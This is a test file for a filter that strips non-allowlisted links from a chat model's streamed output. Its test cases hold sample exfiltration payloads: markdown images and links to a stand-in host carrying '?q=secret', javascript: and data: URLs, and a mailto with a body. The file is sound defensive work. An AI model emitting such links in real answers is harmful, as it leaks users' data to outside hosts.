"""Links in a model's text: only those of the result set stay, however the text is cut into tokens."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatsearch.links import REMOVED, LinkFilter, addresses

OURS = ("https://example.org/wiki/Rhine", "http://museum.example/a(b)")


def filtered(*tokens: str) -> str:
    links = LinkFilter(OURS)
    return "".join([*map(links.feed, tokens), links.end()])


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("![x](https://evil.test/p?q=secret)", "x"),
        ("See ![](https://evil.test/p?q=secret) this", "See  this"),
        ("[the Rhine](https://evil.test/a)", "the Rhine"),
        ("[the Rhine](//evil.test/a)", "the Rhine"),
        ("[the Rhine](javascript:alert(1))", "the Rhine"),
        ("[the Rhine](data:text/html;base64,AAAA)", "the Rhine"),
        ("[the Rhine][1]", "the Rhine"),
        ("[1]: https://evil.test/?q=secret", f"[1]: {REMOVED}"),
        ("go to https://evil.test/?q=a, then", f"go to {REMOVED}, then"),
        ("go to HTTPS://EVIL.test/x", f"go to {REMOVED}"),
        ("go to //evil.test/x", f"go to {REMOVED}"),
        ("go to www.evil.test now", f"go to {REMOVED} now"),
        ("<img src=https://evil.test/x>", f"<img src={REMOVED}>"),
        ("write to mailto:me@evil.test?body=x", f"write to {REMOVED}"),
        ("看https://evil.test/中 文", f"看{REMOVED} 文"),
        ("[the Rhine](https://example.org/wiki/Rhine)", "[the Rhine](https://example.org/wiki/Rhine)"),
        ("[a](http://museum.example/a(b))", "[a](http://museum.example/a(b))"),
        ("see http://www.example.org/wiki/Rhine/.", "see http://www.example.org/wiki/Rhine/."),
        ("![ours](https://example.org/wiki/Rhine)", "ours"),
        ("https://example.org/wiki/Rhine?q=secret", REMOVED),
        ("It is so [3]. And [4][5] too, a[1] = 2", "It is so [3]. And [4][5] too, a[1] = 2"),
        ("and/or, 1:2, C:\\x, data: none, see: this", "and/or, 1:2, C:\\x, data: none, see: this"),
        ("an open [bracket", "an open [bracket"),
    ],
)
def test_foreign_links_and_all_pictures_lose_their_address(said: str, shown: str) -> None:
    assert filtered(said) == shown
    assert filtered(*said) == shown


@given(st.lists(st.text(st.sampled_from("ab /:.[]()!w中?\n"), max_size=6), max_size=8))
def test_how_the_text_is_cut_changes_nothing(tokens: list[str]) -> None:
    assert filtered(*tokens) == filtered("".join(tokens))


@given(st.text(max_size=60), st.text(max_size=60))
def test_no_foreign_address_comes_through(before: str, after: str) -> None:
    shown = filtered(f"{before} ![p](https://evil.test/{after}) [l](https://evil.test/b) https://evil.test/c {after}")
    assert "evil.test/b" not in shown
    assert "evil.test/c" not in shown
    assert not [one for one in addresses(shown) if "evil.test" in one]


def test_text_without_links_is_not_held_back_for_long() -> None:
    links = LinkFilter(())
    assert links.feed("The Rhine is long. It ") == "The Rhine is long. It "
    assert links.feed("莱茵河很长") == "莱茵河很长"
